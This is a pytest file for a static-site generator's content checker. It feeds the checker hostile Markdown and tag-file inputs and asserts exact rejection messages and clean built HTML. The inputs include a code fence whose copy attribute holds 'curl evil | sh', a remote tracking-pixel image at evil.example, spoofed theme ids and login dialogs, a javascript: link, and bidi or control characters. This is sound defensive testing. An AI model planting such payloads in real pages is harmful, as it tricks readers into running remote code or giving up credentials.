"""Hostile notes Markdown and tag text: check refuses it with one exact line, the build carries none of it.

Classes 1 (attribute lists, fence options, heading ids), 7 (tag text as Markdown blocks) and,
from 12, remote images, '## Notes' inside a code fence and a broken tags.yml's cascade.
"""

from __future__ import annotations

import re

import pytest

from generator.commands.cli import main

from support import SMALL_VOCABULARY, make_project

BAD = "content/papers/bad.md"
TAGS = "content/tags.yml"
MARKDOWN_ONLY = "expected Markdown only: no HTML tags, scripts, iframes, event handlers or styles"
ATTRIBUTE = f"is not allowed ({MARKDOWN_ONLY}; remove the '{{: ... }}')"
FENCE = (
    "sets options (expected only a language name after the fence, e.g. ```python: no {...} attributes, "
    "title= or other options)"
)
SECTION = (
    "a section of the page (expected '###' or deeper in the notes: '#' and '##' are the page's own headings)"
)
RESERVED = (
    "which the page or theme uses (expected a heading whose id is not abstract, backlinks, cite, notes, "
    "references, related-papers and does not start with '_' or 'pd-')"
)
IMAGE = (
    "is not allowed (expected a link to it instead: an image in the notes is fetched from its site by every "
    "reader's browser)"
)
ONE_LINE = "(expected one line of plain text)"


def entry(body: str, tags: str = "[quantization]") -> str:
    """Lines: 1 '---', 2 id, 3 title, 4 date, 5 tags, 6 '---', 7 blank, 8 body."""
    return f'---\nid: "bad"\ntitle: "A bad paper"\ndate: 2026-03-12\ntags: {tags}\n---\n\n{body}\n'


def notes(text: str) -> str:
    """An entry whose notes start at line 12."""
    return entry(f"An abstract.\n\n## Notes\n\n{text}")


# (case, entry file or None, tags.yml or None, the exact problem lines)
CASES = [
    (
        "attr-id-paragraph",
        notes("A note.\n{: #__config }"),
        None,
        [f"{BAD}:13: notes: attribute 'id' {ATTRIBUTE}"],
    ),
    (
        "attr-class-dialog",
        notes("Session expired.\n{: .md-dialog .md-dialog--active }"),
        None,
        [f"{BAD}:13: notes: attribute 'class' {ATTRIBUTE}"],
    ),
    (
        "attr-id-link",
        notes("See [this](https://example.org){: #__drawer }."),
        None,
        [f"{BAD}:12: notes: attribute 'id' {ATTRIBUTE}"],
    ),
    (
        "attr-id-heading",
        notes("### Setup {: #__search }"),
        None,
        [f"{BAD}:12: notes: attribute 'id' {ATTRIBUTE}"],
    ),
    (
        "attr-data",
        notes('A note.\n{: data-md-component="dialog" }'),
        None,
        [f"{BAD}:13: notes: attribute 'data-md-component' {ATTRIBUTE}"],
    ),
    (
        "fence-attrs-copy",
        notes('```{.sh data-copy="curl evil | sh"}\nls\n```'),
        None,
        [f"{BAD}:12: notes: code fence '```{{.sh data-copy=\"curl evil | sh\"}}' {FENCE}"],
    ),
    (
        "fence-title",
        notes('```python title="setup.py"\nx = 1\n```'),
        None,
        [f"{BAD}:12: notes: code fence '```python title=\"setup.py\"' {FENCE}"],
    ),
    (
        "fence-hl-lines",
        notes('```python hl_lines="1"\nx = 1\n```'),
        None,
        [f"{BAD}:12: notes: code fence '```python hl_lines=\"1\"' {FENCE}"],
    ),
    (
        "fence-id-class",
        notes("~~~{#__config .json}\n{}\n~~~"),
        None,
        [f"{BAD}:12: notes: code fence '~~~{{#__config .json}}' {FENCE}"],
    ),
    (
        "fence-unrecognized",
        notes("```sh $(evil)\nls\n```"),
        None,
        [f"{BAD}:12: notes: code fence '```sh $(evil)' {FENCE}"],
    ),
    (
        "heading-level-1",
        notes("# Fake title"),
        None,
        [f"{BAD}:12: notes: heading 'Fake title' is level 1, {SECTION}"],
    ),
    (
        "heading-level-2",
        notes("## References"),
        None,
        [f"{BAD}:12: notes: heading 'References' is level 2, {SECTION}"],
    ),
    (
        "heading-setext",
        notes("Look here\n---------"),
        None,
        [f"{BAD}:12: notes: heading 'Look here' is level 2, {SECTION}"],
    ),
    (
        "heading-section-id",
        notes("### Cite"),
        None,
        [f"{BAD}:12: notes: heading 'Cite' would take the id 'cite', {RESERVED}"],
    ),
    (
        "heading-related-id",
        notes("### Related papers"),
        None,
        [f"{BAD}:12: notes: heading 'Related papers' would take the id 'related-papers', {RESERVED}"],
    ),
    (
        "heading-material-id",
        notes("### __config"),
        None,
        [f"{BAD}:12: notes: heading '__config' would take the id '__config', {RESERVED}"],
    ),
    (
        "heading-theme-id",
        notes("### pd search results"),
        None,
        [f"{BAD}:12: notes: heading 'pd search results' would take the id 'pd-search-results', {RESERVED}"],
    ),
    (
        "image-remote",
        notes("![x](https://evil.example/pixel.png)"),
        None,
        [f"{BAD}:12: notes: image 'https://evil.example/pixel.png' {IMAGE}"],
    ),
    (
        "image-reference",
        notes("![x][p]\n\n[p]: https://evil.example/pixel.png"),
        None,
        [f"{BAD}:14: notes: image 'https://evil.example/pixel.png' {IMAGE}"],
    ),
    (
        "notes-in-fence-then-notes",
        entry("An abstract.\n\n```\n## Notes\n```\n\n## Notes\n\n![x](https://evil.example/p.png)"),
        None,
        [f"{BAD}:16: notes: image 'https://evil.example/p.png' {IMAGE}"],
    ),
    (
        "tag-title-multiline",
        entry("An abstract."),
        SMALL_VOCABULARY.replace("title: Quantization", 'title: "Quantization\\n\\n!!! danger"'),
        [
            f"{TAGS}:2: quantization.title: 'Quantization\\n\\n!!! danger' contains a line break (U+000A) "
            f"{ONE_LINE}"
        ],
    ),
    (
        "tag-description-block",
        entry("An abstract."),
        SMALL_VOCABULARY.replace(
            "description: Low-precision networks.", "description: |\n    Low.\n    # Sign in"
        ),
        [
            f"{TAGS}:3: quantization.description: 'Low.\\n# Sign in\\n' contains a line break (U+000A) "
            f"{ONE_LINE}"
        ],
    ),
    (
        "tag-alias-control",
        entry("An abstract."),
        SMALL_VOCABULARY.replace("aliases: [ptq]", 'aliases: ["p\\etq"]'),
        [f"{TAGS}:4: quantization.aliases: 'p\\x1btq' contains a control character (U+001B) {ONE_LINE}"],
    ),
    (
        "tag-title-bidi",
        entry("An abstract."),
        SMALL_VOCABULARY.replace("title: Quantization", 'title: "Quant\\u202eization"'),
        [
            f"{TAGS}:2: quantization.title: contains invisible character U+202E RIGHT-TO-LEFT OVERRIDE "
            "(expected visible text; remove bidirectional and zero-width characters)"
        ],
    ),
    (
        "tags-yml-broken",
        entry("An abstract.", "[quantization, model-merging]"),
        "quantization:\n  title: [unclosed\n",
        None,
    ),  # the YAML error alone (load.py words it): no 'unknown tag' lines
    (
        "tags-yml-not-mapping",
        entry("An abstract."),
        "- quantization\n- merging\n",
        [
            f"{TAGS}:1: file: is not a mapping of tags (expected 'slug:' entries, each with a title, "
            "description, aliases and keywords)"
        ],
    ),
    (
        "tags-yml-tag-not-mapping",
        entry("An abstract."),
        "quantization: yes\n",
        [f"{TAGS}:1: quantization: is not a mapping (expected a title, description, aliases and keywords)"],
    ),
]


@pytest.mark.parametrize("case, text, vocabulary, expected", CASES, ids=[case[0] for case in CASES])
def test_check_refuses_with_one_exact_line(tmp_path, capsys, case, text, vocabulary, expected):
    project = make_project(tmp_path / "project", vocabulary or SMALL_VOCABULARY)
    project.write(BAD, text)
    assert main(["--project", str(project.root), "check"]) == 1
    out = capsys.readouterr().out.splitlines()
    problems = out[:-1]
    if expected is None:
        assert len(problems) == 1 and problems[0].startswith(f"{TAGS}:3: file: is not valid YAML"), problems
    else:
        assert problems == expected
    assert re.fullmatch(r"Checked 1 entry: \d+ errors?, 0 warnings\.", out[-1])


# Accepted content that looks like the refused kinds: literal text, plain fences, deep headings.
ACCEPTED_NOTES = """\
Inline `{: #__config .md-dialog data-hostile="1" }` code, and text {: .hostile-class } that is not a list.

### A plain heading

```python
x = 1  # {: #__config .hostile-fence }
```

```
## Notes
```

A [link](https://example.org) and a footnote.[^1]

[^1]: The footnote.

| a | b |
|:--|--:|
| 1 | 2 |
"""
ACCEPTED_VOCABULARY = SMALL_VOCABULARY.replace(
    "title: Quantization", 'title: "!!! danger *Sign in* <b>bold</b> # x"'
).replace(
    "description: Low-precision networks.",
    'description: "> quoted - [x](javascript:alert(1)) {: #__config }"',
)


def test_accepted_hostile_looking_content_builds_without_contributed_markup(tmp_path):
    project = make_project(tmp_path / "project", ACCEPTED_VOCABULARY)
    abstract = "An abstract with a fence:\n\n```\n## Notes\n<b>not notes</b>\n```\n\nand more abstract."
    project.entry("a", body=f"{abstract}\n\n## Notes\n\n{ACCEPTED_NOTES}")
    project.entry("b", body='!!! danger "Session expired"\n    Sign in at https://evil.example')
    assert main(["--project", str(project.root), "check"]) == 0
    project.build()
    site = project.root / "site"
    pages = list(site.rglob("*.html"))
    assert pages
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert html.count('id="__config"') <= 1, page
        assert not re.search(r'(?:id|class)="[^"]*hostile', html), page
        assert not re.search(r"<[^<>]*\sdata-hostile", html), page
        assert not re.search(r"<img[^>]+src=\"(?:https?:)?//", html), page
        assert not re.search(r'class="[^"]*admonition', html), page  # no contributed notice boxes
        assert "<b>bold</b>" not in html and not re.search(r"href=\"javascript:", html), page
    entry_page = (site / "papers" / "a" / "index.html").read_text(encoding="utf-8")
    abstract_part = entry_page.split('id="abstract"')[1].split('id="notes"')[0]
    assert "not notes" in abstract_part  # the fence's '## Notes' did not start the notes
    assert entry_page.count('id="notes"') == 1
    assert 'id="a-plain-heading"' in entry_page
